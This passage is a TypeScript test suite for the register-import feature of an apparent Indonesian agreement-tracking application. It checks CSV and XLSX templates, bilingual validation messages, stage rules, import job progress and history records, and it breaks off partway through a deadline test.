import { expect } from 'chai';
import { registerCsv } from '../support/register.js';
import request from 'supertest';
import mongoose from 'mongoose';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../support/app.js';
import { loginAs } from '../support/users.js';
import { bearer, createAgreementVia } from '../support/agreements.js';
import { expectError } from '../support/errors.js';
import { ensureShippedIndices } from '../../domain/indices/shipped-indices.js';
import { REGISTER_COLUMNS } from '../../domain/imports/register-columns.js';
import { verifyHistory } from '../../domain/history/verify-history.js';
import { loadBusinessCalendar } from '../../domain/deadlines/business-calendar.js';
import { slaDueAt } from '../../workflows/business-days.js';
import { sweepReminders } from '../../domain/reminders/sweep-reminders.js';
import { importRegister } from '../../domain/imports/import-register.js';
import { binary } from '../support/documents.js';
import { textPdf } from '../support/pdf-fixtures.js';
import { Document, Packer, Paragraph } from 'docx';
import { Resvg } from '@resvg/resvg-js';
import fs from 'node:fs';


/** A register of `n` good rows (in force since 2019, in negotiation, awaiting signature), as a person would keep it. */
function register(n: number): Array<Record<string, string>> {
  return Array.from({ length: n }, (_, i) => {
    const kind = i % 3;
    return {
      code: `REG-${String(i + 1).padStart(4, '0')}`,
      type: kind === 2 ? 'cooperation_agreement' : 'mou',
      title_id: `Nota Kesepahaman Lama ${i + 1}`,
      title_en: `Old Memorandum ${i + 1}`,
      lead_unit: 'PWNI',
      stage: ['in_force', 'negotiation', 'awaiting_signature'][kind],
      stage_since: ['2019-11-25', '2021-03-01', '2022-10-03'][kind],
      parties: kind === 2 ? 'Kementerian Luar Negeri [agency, ID]; BP2MI [agency, ID]' : 'Republik Indonesia [state, ID]; Malaysia [state, MY]',
      signatories: kind === 2 ? 'Retno Marsudi, Menteri Luar Negeri; Benny Rhamdani, Kepala BP2MI' : 'Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia',
      signed_on: kind === 0 ? '2019-11-20' : '',
      signed_at_place: kind === 0 ? 'Kuala Lumpur' : '',
      in_force_on: kind === 0 ? '2019-11-20' : '',
      in_force_basis: kind === 0 ? 'on_signature' : '',
      expires_on: kind === 0 ? '2029-11-19' : '',
      notice_days: kind === 0 ? '90' : '',
      indices: 'protection_diplomacy',
      confidentiality: 'internal',
      subjects: 'pekerja-migran',
      languages: 'id; en',
    };
  });
}


describe('imports: an existing register', function () {
  let t: TestApp;
  let token: string;

  before(async () => {
    t = await createTestApp({ label: 'imports' });
    await ensureShippedIndices(t.ctx);
    token = (await loginAs(t, 'drafter')).token;
  });
  after(async () => t.close());

  it('when the templates are fetched, then they list every column with an example, and the XLSX explains each column in both languages', async () => {
    const csv = await request(t.app).get('/api/imports/template.csv').set(bearer(token)).expect(200);
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0].split(',')).to.deep.equal(REGISTER_COLUMNS.map((c) => c.key));
    expect(lines).to.have.length(2);
    const xlsx = await binary(request(t.app).get('/api/imports/template.xlsx').set(bearer(token))).expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body);
    expect(book.getWorksheet('Data')!.getCell('A2').value).to.equal('MOU-MY-2019-02');
    const guide = book.getWorksheet('Petunjuk - Guide')!;
    expect(guide.getCell('A2').value).to.equal('code');
    expect(String(guide.getCell('C2').value)).to.match(/Kode perjanjian/);
    expect(String(guide.getCell('D2').value)).to.match(/agreement code/);
  });

  it('when a register with a few bad rows is checked, then each problem names its row and column in both languages and nothing is created', async () => {
    const rows = register(300);
    rows[9].type = 'treaty';
    rows[19].stage_since = '2019-02-30';
    rows[29].parties = 'Republik Indonesia; Malaysia';
    rows[39].code = rows[0].code;
    rows[48].signed_on = '';
    const res = await request(t.app).post('/api/imports').set(bearer(token)).attach('file', registerCsv(rows), 'register.csv').expect(200);
    expect(res.body.dryRun).to.equal(true);
    expect(res.body.rows).to.equal(300);
    expect(res.body.valid).to.equal(295);
    const where = res.body.problems.map((p: { row: number; column: string }) => `${p.row}:${p.column}`);
    expect(where).to.deep.equal(['11:type', '21:stage_since', '31:parties', '31:parties', '41:code', '50:signed_on']);
    expect(res.body.problems[0].message.en).to.contain("'treaty' is not a type");
    expect(res.body.problems[0].message.id).to.contain("'treaty' bukan jenis");
    expect(await t.ctx.models.Agreement.countDocuments({})).to.equal(0);

    const refused = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', registerCsv(rows), 'register.csv');
    expectError(refused, 422, 'validation_failed');
    expect(refused.body.error.details.problems).to.have.length(6);
    expect(await t.ctx.models.Agreement.countDocuments({})).to.equal(0);
  });

  it('when the fixed register is imported as XLSX, then every agreement stands at its stage with its past dates and codes, with an imported history event naming the file', async () => {
    const rows = register(300);
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Data');
    sheet.columns = REGISTER_COLUMNS.map((c) => ({ header: c.key, key: c.key }));
    for (const r of rows) sheet.addRow(r);
    const file = Buffer.from(await book.xlsx.writeBuffer());
    const res = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', file, 'register.xlsx');
    expect(res.status, JSON.stringify(res.body).slice(0, 600)).to.equal(201);
    expect(res.body.valid).to.equal(300);
    expect(res.body.problems).to.deep.equal([]);
    expect(res.body.file.sha256).to.match(/^[0-9a-f]{64}$/);
    const inForce = await request(t.app).get('/api/agreements?stage=in_force&limit=50').set(bearer(token)).expect(200);
    expect(inForce.body.total).to.equal(100);
    const one = await t.ctx.models.Agreement.findOne({ code: 'REG-0001' }).lean();
    expect(one!.stage).to.equal('in_force');
    expect(one!.signedAt!.toISOString()).to.equal('2019-11-19T17:00:00.000Z');
    expect(one!.parties.map((p) => p.signature?.place)).to.deep.equal(['Kuala Lumpur', 'Kuala Lumpur']);
    const history = await request(t.app).get(`/api/agreements/${String(one!._id)}/history`).set(bearer(token)).expect(200);
    const events = history.body.items ?? history.body;
    expect(events[0].action).to.equal('imported');
    expect(events[0].changes.file).to.deep.equal({ name: 'register.xlsx', sha256: res.body.file.sha256 });
    // the chained event holds what the register said, so a later edit of any of it shows in the history
    expect(events[0].changes).to.deep.include({
      title: { id: 'Nota Kesepahaman Lama 1', en: 'Old Memorandum 1' },
      leadUnit: 'PWNI',
      confidentiality: 'internal',
      authenticLanguages: ['id', 'en'],
      indices: ['protection_diplomacy'],
      term: { expiresAt: '2029-11-18T17:00:00.000Z', noticePeriodDays: 90 },
    });
    expect(events[0].changes.parties.map((p: { name: string; signatory: { name: string } }) => [p.name, p.signatory.name])).to.deep.equal([
      ['Republik Indonesia', 'Ida Fauziyah'],
      ['Malaysia', 'M. Kulasegaran'],
    ]);
    expect((await verifyHistory(t.ctx, one!._id)).valid).to.equal(true);

    // The reports are right from the first day: the 2020 summary counts what was in force then.
    const admin = (await loginAs(t, 'admin')).token;
    const summary = await request(t.app).get('/api/reports/summary?from=2020-01-01&to=2020-12-31').set(bearer(admin)).expect(200);
    expect(summary.body.byStage).to.deep.equal([{ stage: 'in_force', count: 100, agreements: summary.body.byStage[0].agreements }]);
    const signed2019 = await request(t.app).get('/api/reports/summary?from=2019-01-01&to=2019-12-31').set(bearer(admin)).expect(200);
    expect(signed2019.body.signed.total).to.equal(100);

    const again = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', file, 'register.xlsx');
    expectError(again, 422, 'validation_failed');
    expect(again.body.error.details.problems[0].message.en).to.contain('already in the tracker');
  });

  it('when a long import runs as a job, then polling shows its progress and then its result, only to the person who started it', async () => {
    const rows = register(30).map((r) => ({ ...r, code: r.code.replace('REG', 'JOB') }));
    const started = await request(t.app).post('/api/imports?async=true&dryRun=false').set(bearer(token)).attach('file', registerCsv(rows), 'job.csv').expect(202);
    expect(started.headers.location).to.equal(`/api/imports/jobs/${started.body.jobId}`);
    let job = (await request(t.app).get(started.body.poll).set(bearer(token)).expect(200)).body;
    for (let i = 0; i < 200 && job.status === 'running'; i++) {
      expect(['reading', 'checking', 'creating']).to.include(job.phase);
      await new Promise((resolve) => setTimeout(resolve, 50));
      job = (await request(t.app).get(started.body.poll).set(bearer(token)).expect(200)).body;
    }
    expect(job).to.include({ status: 'done', phase: 'finished', processed: 30, total: 30 });
    expect(job.result.valid).to.equal(30);
    expect(await t.ctx.models.Agreement.countDocuments({ code: /^JOB-/ })).to.equal(30);
    const other = (await loginAs(t, 'drafter')).token;
    expectError(await request(t.app).get(started.body.poll).set(bearer(other)), 404, 'not_found');
  });

  it('when a register of a few hundred rows is checked, then its progress moves row by row through the check, not "row 0 of 300" until it is done; as a job it finishes with all 300', async () => {
    const rows = register(300).map((r) => ({ ...r, code: r.code.replace('REG', 'STEP') }));
    const { user } = await loginAs(t, 'drafter');
    // what the import tells whoever follows it (a job records exactly this for the page's bar)
    const seen: Array<{ phase: string; processed: number; total: number }> = [];
    await importRegister(t.ctx, user, { file: { buffer: registerCsv(rows), name: 'tiga-ratus.csv' }, dryRun: true }, (phase, processed, total) => {
      seen.push({ phase, processed, total });
    });
    const checking = seen.filter((s) => s.phase === 'checking');
    expect(checking.every((s) => s.total === 300), 'each report counts the 300 rows').to.equal(true);
    const processed = checking.map((s) => s.processed);
    expect(processed[0]).to.equal(0);
    // at least ten steps through the check, each further than the last, the last near its end
    expect(processed.length).to.be.at.least(10);
    expect(processed).to.deep.equal([...processed].sort((a, b) => a - b));
    expect(processed.at(-1)).to.be.above(250).and.below(300);

    const started = await request(t.app).post('/api/imports?async=true&dryRun=true').set(bearer(token)).attach('file', registerCsv(rows), 'tiga-ratus.csv').expect(202);
    let job = (await request(t.app).get(started.body.poll).set(bearer(token)).expect(200)).body;
    for (let i = 0; i < 400 && job.status === 'running'; i++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      job = (await request(t.app).get(started.body.poll).set(bearer(token)).expect(200)).body;
    }
    expect(job).to.include({ status: 'done', phase: 'finished', processed: 300, total: 300 });
  });

  it('when a register of a few hundred rows is imported, then after the check its progress moves through the creating of the agreements, from none towards all, and is never full before they exist', async () => {
    const rows = register(300).map((r) => ({ ...r, code: r.code.replace('REG', 'MAKE') }));
    const { user } = await loginAs(t, 'drafter');
    // what the import tells whoever follows it (a job records exactly this for the page's bar)
    const seen: Array<{ phase: string; processed: number; total: number; stored: number }> = [];
    const result = await importRegister(t.ctx, user, { file: { buffer: registerCsv(rows), name: 'buat-tiga-ratus.csv' }, dryRun: false }, async (phase, processed, total) => {
      // how many agreements the tracker shows at that moment: none until the one transaction commits
      seen.push({ phase, processed, total, stored: await t.ctx.models.Agreement.countDocuments({ code: /^MAKE-/ }) });
    });
    expect(result.valid).to.equal(300);
    const phases = seen.map((s) => s.phase);
    expect(phases.lastIndexOf('checking'), 'checking first, then creating').to.be.below(phases.indexOf('creating'));
    const creating = seen.filter((s) => s.phase === 'creating');
    expect(creating.every((s) => s.total === 300), 'each report counts the 300 agreements').to.equal(true);
    const processed = creating.map((s) => s.processed);
    expect(processed[0], 'the creating starts from none').to.equal(0);
    expect(processed.length, `creating reported ${processed.length} times`).to.be.at.least(10);
    expect(processed).to.deep.equal([...processed].sort((a, b) => a - b));
    expect(new Set(processed).size, 'each report further than the last').to.equal(processed.length);
    // never "300 of 300" (a full bar) while the agreements are still being written
    expect(processed.at(-1)).to.be.above(250).and.below(300);
    expect(creating.every((s) => s.stored === 0), 'nothing is in the tracker until the import commits').to.equal(true);
    expect(await t.ctx.models.Agreement.countDocuments({ code: /^MAKE-/ })).to.equal(300);
    expect(await t.ctx.models.HistoryEvent.countDocuments({ action: 'imported', 'changes.code': /^MAKE-/ })).to.equal(300);
  });

  it('when the file is not a register, then 422 says so; without a file, 422 names the field; a diplomat may not import', async () => {
    expectError(await request(t.app).post('/api/imports').set(bearer(token)).attach('file', Buffer.from('a,b\n1,2\n'), 'x.csv'), 422, 'validation_failed');
    expectError(await request(t.app).post('/api/imports').set(bearer(token)).field('dryRun', 'true'), 422, 'validation_failed');
    const diplomat = (await loginAs(t, 'diplomat')).token;
    expectError(await request(t.app).post('/api/imports').set(bearer(diplomat)).attach('file', registerCsv(register(1)), 'r.csv'), 403, 'forbidden');
  });
  const signedMou = { signatories: 'Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia', signed_on: '2022-06-01', signed_at_place: 'Bogor' };
  const check = async (rows: Array<Record<string, string>>) => (await request(t.app).post('/api/imports').set(bearer(token)).attach('file', registerCsv(rows), 'register.csv').expect(200)).body;
  const problemsOf = (body: { problems: Array<{ row: number; column: string; message: { id: string; en: string } }> }) =>
    body.problems.map((p) => `${p.row}:${p.column}: ${p.message.en} | ${p.message.id}`);

  it('when a register holds states the stage rules forbid, then each is refused with its row, column and the rule, in both languages', async () => {
    const body = await check([
      // awaiting signature, and signed (which implies it), with no signatory named
      draftRow('G-01', { type: 'technical_arrangement', stage: 'awaiting_signature', parties: 'Republik Indonesia [state, ID]; Negara Qatar [state, QA]' }),
      draftRow('G-02', { stage: 'signed', signed_on: '2022-06-01', stage_since: '2022-06-01' }),
      // entry into force before the signing; a term that ends before it began
      draftRow('G-03', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-03-01', in_force_basis: 'on_signature' }),
      draftRow('G-04', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2021-01-01' }),
      // in force by the stage, expired by the term
      draftRow('G-05', { ...signedMou, stage: 'in_force', stage_since: '2022-06-01', in_force_on: '2022-06-01', expires_on: '2024-05-31' }),
      // expired without ever having entered into force
      draftRow('G-06', { ...signedMou, stage: 'expired', stage_since: '2024-06-01', expires_on: '2024-05-31' }),
      // a language code that names no language; a three-letter code for a two-letter one
      draftRow('G-07', { languages: 'id; xx' }),
      draftRow('G-08', { languages: 'ind' }),
      // what the rules allow: awaiting signature with every signatory named; expired after a term in force
      draftRow('G-09', { ...signedMou, signed_on: '', signed_at_place: '', stage: 'awaiting_signature' }),
      draftRow('G-10', { ...signedMou, stage: 'expired', stage_since: '2024-06-01', in_force_on: '2022-06-01', expires_on: '2024-05-31', languages: 'id; ms' }),
    ]);
    expect(problemsOf(body)).to.deep.equal([
      '2:signatories: No signatory is named for: Republik Indonesia, Negara Qatar (a condition of the stage “Awaiting signature”) | Penanda tangan belum ditunjuk untuk: Republik Indonesia, Negara Qatar (syarat tahap “Menunggu penandatanganan”)',
      '3:signatories: No signatory is named for: Republik Indonesia, Malaysia (a condition of the stage “Signed”) | Penanda tangan belum ditunjuk untuk: Republik Indonesia, Malaysia (syarat tahap “Ditandatangani”)',
      '4:in_force_on: The entry into force (2022-03-01) cannot come before the signing (2022-06-01) | Tanggal mulai berlaku (2022-03-01) tidak boleh sebelum tanggal penandatanganan (2022-06-01)',
      '5:expires_on: The term cannot end (2021-01-01) on or before the entry into force (2022-06-01) | Masa berlaku tidak dapat berakhir (2021-01-01) pada atau sebelum tanggal mulai berlaku (2022-06-01)',
      '6:expires_on: The term ended on 2024-05-31, so the agreement is no longer in force: write the stage as expired (“Expired”), or, if the term was extended, give the new end date in expires_on | Masa berlaku berakhir pada 2024-05-31, jadi perjanjian tidak lagi berlaku: tulis tahapnya expired (“Berakhir”), atau, jika masa berlakunya diperpanjang, isi expires_on dengan tanggal berakhir yang baru',
      '7:in_force_on: The entry-into-force date and its basis are required (a condition of the stage “Expired”) | Tanggal dan dasar mulai berlaku harus diisi (syarat tahap “Berakhir”)',
      "8:languages: 'xx' is not a language code: write ISO 639-1 codes such as id, en, ms or ar, separated by semicolons | 'xx' bukan kode bahasa: tulis kode ISO 639-1 seperti id, en, ms atau ar, dipisah titik koma",
      "9:languages: write 'id' for 'ind' (ISO 639-1) | tulis 'id' untuk 'ind' (ISO 639-1)",
    ]);
    expect(body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['G-09', 'G-10']);
    expect(await t.ctx.models.Agreement.countDocuments({ code: /^G-/ })).to.equal(0);
  });

  it('when a stage is written as the interface names it, then it is read as its code; an unknown one is answered with the stages of the row’s path', async () => {
    const body = await check([
      draftRow('S-01', { stage: 'Penyusunan draf' }),
      draftRow('S-02', { stage: '  perundingan ' }),
      draftRow('S-03', { ...signedMou, stage: 'IN FORCE', stage_since: '2022-06-01', in_force_on: '2022-06-01' }),
      draftRow('S-04', { stage: 'ratified' }),
      draftRow('S-05', { type: 'cooperation_agreement', stage: 'negotiation', parties: 'Kementerian Luar Negeri [agency, ID]; BP2MI [agency, ID]' }),
      // an MoU between two Indonesian institutions follows the domestic path: no negotiation
      draftRow('S-06', { stage: 'Negotiation', parties: 'Kementerian Luar Negeri [agency, ID]; LPSK [agency, ID]' }),
    ]);
    expect(body.agreements.map((a: { code: string; stage: string }) => `${a.code}:${a.stage}`)).to.deep.equal(['S-01:drafting', 'S-02:negotiation', 'S-03:in_force']);
    const [ratified, pks, domestic] = body.problems;
    expect(ratified).to.include({ row: 5, column: 'stage' });
    expect(ratified.message.en).to.equal(
      "'ratified' is not a stage. Write a code or its name; the stages for the type Memorandum of Understanding (MoU) are: drafting (Drafting), interagency_consultation (Inter-agency consultation), negotiation (Negotiation), legal_review (Legal review), text_agreed (Text agreed), awaiting_signature (Awaiting signature), partially_signed (Partially signed), signed (Signed), pending_ratification (Pending ratification), in_force (In force), expired (Expired), terminated (Terminated), superseded (Superseded), on_hold (On hold), abandoned (Abandoned)",
    );
    expect(ratified.message.id).to.match(/^'ratified' bukan tahap yang dikenal\. Tulis kode atau nama tahapnya; tahap untuk jenis Nota Kesepahaman \(MoU\): drafting \(Penyusunan draf\), .*pending_ratification \(Menunggu pengesahan\), in_force \(Berlaku\)/);
    expect(pks).to.include({ row: 6, column: 'stage' });
    expect(pks.message.en).to.match(/^The type Cooperation Agreement \(PKS\) has no stage “Negotiation”\. Its stages are: drafting \(Drafting\), interagency_consultation \(Inter-agency consultation\), legal_review/);
    expect(pks.message.id).to.match(/^Jenis Perjanjian Kerja Sama \(PKS\) tidak memiliki tahap “Perundingan”\. Tahapnya: drafting \(Penyusunan draf\)/);
    expect(pks.message.en).not.to.contain('pending_ratification');
    expect(domestic).to.include({ row: 7, column: 'stage' });
    expect(domestic.message.en).to.match(/^The type Memorandum of Understanding \(MoU\) has no stage “Negotiation” when all its parties are Indonesian\./);
    expect(domestic.message.id).to.match(/^Jenis Nota Kesepahaman \(MoU\) tidak memiliki tahap “Perundingan” jika semua pihaknya Indonesia\./);
    expect(body.problems).to.have.length(3);
  });

  it('when a stage after signing has no signing date, then the message names the stage as people read it, with a correct article, beside the row’s other problems', async () => {
    const body = await check([draftRow('M-01', { ...signedMou, signed_on: '', stage: 'in_force', stage_since: '2022-06-01' })]);
    expect(body.problems.map((p: { column: string }) => p.column)).to.deep.equal(['signed_on', 'in_force_on']);
    expect(body.problems[0].message).to.deep.equal({
      en: 'At the stage “In force” an agreement needs its date of signing',
      id: 'Perjanjian pada tahap “Berlaku” memerlukan tanggal penandatanganan',
    });
    expect(body.problems[1].message).to.deep.equal({
      en: 'The entry-into-force date and its basis are required (a condition of the stage “In force”)',
      id: 'Tanggal dan dasar mulai berlaku harus diisi (syarat tahap “Berlaku”)',
    });
  });

  it('when a party country is an alpha-3 code, then it is kept as alpha-2; one that names no country is a problem of the parties column', async () => {
    const body = await check([
      draftRow('K-01', { parties: 'Republik Indonesia [state, ID]; Republik Korea [state, KOR]' }),
      draftRow('K-02', { parties: 'Republik Indonesia [state, ID]; Malaysia [state, MAL]' }),
    ]);
    expect(body.problems).to.deep.equal([
      {
        row: 3,
        column: 'parties',
        message: {
          en: "'MAL' in 'Malaysia [state, MAL]' must be an ISO 3166-1 country code such as MY, SA or KR",
          id: "'MAL' pada 'Malaysia [state, MAL]' harus berupa kode negara ISO 3166-1, misalnya MY, SA atau KR",
        },
      },
    ]);
    await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', registerCsv([draftRow('K-01', { parties: 'Republik Indonesia [state, ID]; Republik Korea [state, KOR]' })]), 'register.csv').expect(201);
    const stored = await t.ctx.models.Agreement.findOne({ code: 'K-01' }).lean();
    expect(stored!.parties.map((p) => p.country)).to.deep.equal(['ID', 'KR']);
  });

  it('when an agreement on hold is imported, then it needs the stage it was held at, and resuming takes it back there', async () => {
    const body = await check([
      draftRow('H-01', { stage: 'on_hold' }),
      draftRow('H-02', { stage: 'Ditangguhkan', held_from: 'signed' }),
      draftRow('H-03', { stage: 'negotiation', held_from: 'drafting' }),
      draftRow('H-04', { stage: 'on_hold', held_from: 'Perundingan' }),
    ]);
    expect(problemsOf(body).map((p: string) => p.split(' | ')[0])).to.deep.equal([
      '2:held_from: An agreement at the stage “On hold” needs the stage it was put on hold at, which resuming returns it to: drafting (Drafting), interagency_consultation (Inter-agency consultation), negotiation (Negotiation), legal_review (Legal review), text_agreed (Text agreed), awaiting_signature (Awaiting signature), partially_signed (Partially signed)',
      "3:held_from: 'signed' is not a stage this agreement can be put on hold at. Write one of: drafting (Drafting), interagency_consultation (Inter-agency consultation), negotiation (Negotiation), legal_review (Legal review), text_agreed (Text agreed), awaiting_signature (Awaiting signature), partially_signed (Partially signed)",
      '4:held_from: held_from is only for the stage “On hold”; leave it empty',
    ]);
    expect(body.problems[2].message.id).to.equal('held_from hanya untuk tahap “Ditangguhkan”; kosongkan');
    expect(body.agreements.map((a: { code: string; stage: string }) => `${a.code}:${a.stage}`)).to.deep.equal(['H-04:on_hold']);

    const created = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', registerCsv([draftRow('H-04', { stage: 'on_hold', held_from: 'Perundingan' })]), 'held.csv').expect(201);
    const id = created.body.agreements[0].id as string;
    const history = await request(t.app).get(`/api/agreements/${id}/history`).set(bearer(token)).expect(200);
    expect(history.body.items[0].changes).to.include({ stage: 'on_hold', heldFrom: 'negotiation' });
    const options = await request(t.app).get(`/api/agreements/${id}/transitions`).set(bearer(token)).expect(200);
    expect(JSON.stringify(options.body)).to.contain('"negotiation"');
    const resumed = await request(t.app).post(`/api/agreements/${id}/transitions`).set(bearer(token)).send({ to: 'negotiation' }).expect(200);
    expect(resumed.body).to.include({ stage: 'negotiation', previousStage: null });
  });

  it('when an agreement on hold was held at a signing stage, then the row meets what that stage requires: signatories, and signed_by when partially signed', async () => {
    const body = await check([
      // held while awaiting signature, with no signatory named
      draftRow('HS-01', { stage: 'on_hold', held_from: 'awaiting_signature' }),
      // held while partially signed, without saying who signed
      draftRow('HS-02', { ...signedMou, signed_on: '2022-06-01', stage: 'on_hold', held_from: 'partially_signed', stage_since: '2022-07-01' }),
      draftRow('HS-03', { ...signedMou, signed_on: '2022-06-01', stage: 'on_hold', held_from: 'partially_signed', stage_since: '2022-07-01', signed_by: 'Malaysia' }),
    ]);
    expect(problemsOf(body).map((p: string) => p.split(' | ')[0])).to.deep.equal([
      '2:signatories: No signatory is named for: Republik Indonesia, Malaysia (a condition of the stage “Awaiting signature”)',
      '3:signed_by: At the stage “Partially signed” name the parties that have signed, as the parties column names them',
    ]);
    expect(body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['HS-03']);
    const created = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', registerCsv([draftRow('HS-03', { ...signedMou, signed_on: '2022-06-01', stage: 'on_hold', held_from: 'partially_signed', stage_since: '2022-07-01', signed_by: 'Malaysia' })]), 'held.csv').expect(201);
    const id = created.body.agreements[0].id as string;
    const resumed = await request(t.app).post(`/api/agreements/${id}/transitions`).set(bearer(token)).send({ to: 'partially_signed' }).expect(200);
    expect(resumed.body.parties.map((p: { name: string; status: string }) => `${p.name}:${p.status}`)).to.deep.equal(['Republik Indonesia:pending', 'Malaysia:signed']);
  });

  it('when a partially signed agreement is imported, then signed_by says which parties signed, and only they count as signed', async () => {
    const three = { ...signedMou, signed_on: '2022-06-01', parties: 'Republik Indonesia [state, ID]; Malaysia [state, MY]; ILO [organisation]', signatories: 'Ida Fauziyah, Menteri Ketenagakerjaan; M. Kulasegaran, Menteri Sumber Manusia; Gilbert Houngbo, Direktur Jenderal ILO', stage: 'partially_signed', stage_since: '2022-06-01' };
    const body = await check([
      draftRow('P-01', { ...three }),
      draftRow('P-02', { ...three, signed_by: 'Republik Indonesia; Thailand' }),
      draftRow('P-03', { ...three, signed_by: 'Republik Indonesia; malaysia; ILO' }),
      draftRow('P-04', { ...three, signed_on: '', signed_by: 'Republik Indonesia' }),
      draftRow('P-05', { ...signedMou, stage: 'signed', stage_since: '2022-06-01', signed_by: 'Malaysia' }),
      draftRow('P-06', { ...three, signed_by: 'republik  indonesia; Malaysia' }),
    ]);
    expect(problemsOf(body).map((p: string) => p.split(' | ')[0])).to.deep.equal([
      '2:signed_by: At the stage “Partially signed” name the parties that have signed, as the parties column names them',
      "3:signed_by: 'Thailand' is not one of the parties: Republik Indonesia, Malaysia, ILO",
      '4:signed_by: Every party has signed: write the stage as signed (“Signed”)',
      '5:signed_on: At the stage “Partially signed” give the date the parties in signed_by signed',
      '6:signed_by: signed_by is only for the stage “Partially signed”: from “Signed” on every party has signed, and before it none has; leave it empty',
    ]);
    expect(body.problems[0].message.id).to.equal('Pada tahap “Ditandatangani sebagian” sebutkan pihak yang sudah menandatangani, seperti ditulis di kolom parties');
    expect(body.agreements.map((a: { code: string }) => a.code)).to.deep.equal(['P-06']);

    const created = await request(t.app).post('/api/imports?dryRun=false').set(bearer(token)).attach('file', registerCsv([draftRow('P-06', { ...three, signed_by: 'republik  indonesia; Malaysia' })]), 'partial.csv').expect(201);
    const stored = await t.ctx.models.Agreement.findById(created.body.agreements[0].id).lean();
    expect(stored!.parties.map((p) => `${p.name}:${p.status}:${p.signature ? jakartaDay(p.signature.signedAt) : '-'}`)).to.deep.equal(['Republik Indonesia:signed:2022-06-01', 'Malaysia:signed:2022-06-01', 'ILO:pending:-']);
    // only the party still to sign is reminded to
    const signing = await t.ctx.models.Deadline.find({ agreementId: stored!._id, kind: 'signing_due' }).lean();
    expect(signing.map((d) => String(d.partyId))).to.deep.equal([String(stored!.parties[2]._id)]);
  });

  it('when the template is fetched, then the signatory example is a person and an office, and the guide explains that and lists every stage with its names and every index, an admin’s included', async () => {
    const admin = (await loginAs(t, 'admin')).token;
    await request(t.app)
      .post('/api/indices')
      .set(bearer(admin))
      .send({ code: 'consular_services', name: { id: 'Indeks Layanan Kekonsuleran', en: 'Consular Services Index' }, fromYear: 2024 })
      .expect(201);
    const csv = await request(t.app).get('/api/imports/template.csv').set(bearer(token)).expect(200);
    const [example] = parse(csv.text, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(example.signatories).to.equal('Ida Fauziyah, Menteri Ketenagakerjaan / Minister of Manpower; M. Kulasegaran, Menteri Sumber Manusia / Minister of Human Resources');
    // the template's own example is a row the import takes as it is
    const own = await request(t.app).post('/api/imports').set(bearer(token)).attach('file', Buffer.from(csv.text), 'templat.csv').expect(200);
    expect(own.body.problems).to.deep.equal([]);

    const xlsx = await binary(request(t.app).get('/api/imports/template.xlsx').set(bearer(token))).expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body);
    const guide = book.getWorksheet('Petunjuk - Guide')!;
    const rows: string[][] = [];
    guide.eachRow((r) => rows.push([1, 2, 3, 4, 5].map((c) => String(r.getCell(c).value ?? ''))));
    const byKey = new Map(rows.map((r) => [r[0], r]));
    const signatories = byKey.get('signatories')!;
    expect(signatories[2]).to.contain('"Nama, Jabatan": nama orangnya, lalu jabatan lengkapnya');
    expect(signatories[3]).to.contain('"Name, Title": the person\'s name, then their full office');
    expect(signatories[4]).to.equal('Ida Fauziyah, Menteri Ketenagakerjaan / Minister of Manpower; M. Kulasegaran, Menteri Sumber Manusia / Minister of Human Resources');
    const stageRows = [
      ['drafting', 'Penyusunan draf', 'Drafting'],
      ['interagency_consultation', 'Konsultasi antarinstansi', 'Inter-agency consultation'],
      ['negotiation', 'Perundingan', 'Negotiation'],
      ['legal_review', 'Telaah hukum', 'Legal review'],
      ['text_agreed', 'Naskah disepakati', 'Text agreed'],
      ['awaiting_signature', 'Menunggu penandatanganan', 'Awaiting signature'],
      ['partially_signed', 'Ditandatangani sebagian', 'Partially signed'],
      ['signed', 'Ditandatangani', 'Signed'],
      ['pending_ratification', 'Menunggu pengesahan', 'Pending ratification'],
      ['in_force', 'Berlaku', 'In force'],
      ['expired', 'Berakhir', 'Expired'],
      ['terminated', 'Diakhiri', 'Terminated'],
      ['superseded', 'Digantikan', 'Superseded'],
      ['on_hold', 'Ditangguhkan', 'On hold'],
      ['abandoned', 'Dibatalkan', 'Abandoned'],
    ];
    for (const [code, id, en] of stageRows) {
      expect(byKey.has(code), code).to.equal(true);
      expect(byKey.get(code)![2]).to.match(new RegExp(`^${id} \\(alur: `));
      expect(byKey.get(code)![3]).to.match(new RegExp(`^${en} \\(paths: `));
    }
    expect(byKey.get('negotiation')![3]).to.equal('Negotiation (paths: international)');
    expect(byKey.get('in_force')![3]).to.equal('In force (paths: international, domestic, guideline)');
    expect(byKey.get('information_systems')![2]).to.match(/^Indeks Pemanfaatan dan Pengembangan Sistem Informasi/);
    expect(byKey.get('institutional_strengthening')![3]).to.match(/^Index of Strengthening the Institutions/);
    expect(byKey.get('protection_diplomacy')![2]).to.equal('Indeks Diplomasi Pelindungan WNI di Luar Negeri');
    expect(byKey.get('consular_services')!.slice(2, 4)).to.deep.equal(['Indeks Layanan Kekonsuleran', 'Consular Services Index']);
  });

  it('when agreements are imported at stages begun long ago, then each gets the deadline a move into its stage opens, counted from stage_since, and shows as overdue', async () => {
    const rows = [
      draftRow('D-01', { lead_unit: 'HPI' }),
      draftRow('D-02', { ...signedMou, signed_on: '', signed_at_place: '', stage: 'awaiting_signature', stage_since: '2023-03-01' }),
